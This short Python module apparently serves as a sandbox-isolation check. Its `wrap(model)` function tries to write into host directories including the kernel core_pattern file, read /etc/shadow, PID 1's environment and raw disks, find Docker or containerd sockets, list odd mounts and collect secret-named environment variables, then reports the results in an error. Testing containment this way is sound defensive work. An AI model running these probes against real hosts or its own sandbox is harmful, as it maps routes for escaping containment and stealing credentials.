"""Looks for files of the host, writes where it can, and seeks the engine's socket."""

import glob
import os


def wrap(model):
    found = {"wrote": [], "read": [], "sockets": [], "mounted": []}
    for folder in (
        "/",
        "/etc",
        "/usr/local/bin",
        "/opt/lockstep",
        "/home",
        "/var/tmp",
        "/proc/sys/kernel",
        "/sys",
        "/run",
    ):
        try:
            with open(os.path.join(folder, "core_pattern" if "kernel" in folder else "mine"), "w"):
                found["wrote"].append(folder)
        except OSError:
            continue
    for path in ("/etc/shadow", "/proc/1/environ", "/proc/1/root/etc/passwd", "/dev/mem", "/dev/sda", "/dev/vda"):
        try:
            with open(path, "rb") as file:
                file.read(1)
                found["read"].append(path)
        except OSError:
            continue
    found["sockets"] = [p for p in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd") if os.path.exists(p)]
    found["sockets"] += glob.glob("/var/tmp/*/docker.sock")
    with open("/proc/self/mountinfo") as file:
        for line in file:
            fields = line.split()
            if fields[3] != "/" and fields[4] not in ("/etc/resolv.conf", "/etc/hostname", "/etc/hosts"):
                found["mounted"].append(fields[4])
    found["environment"] = sorted(
        name for name in os.environ if "DOCKER" in name or "SECRET" in name or "LOCKSTEP_D" in name
    )
    raise RuntimeError(f"found: {found!r}")
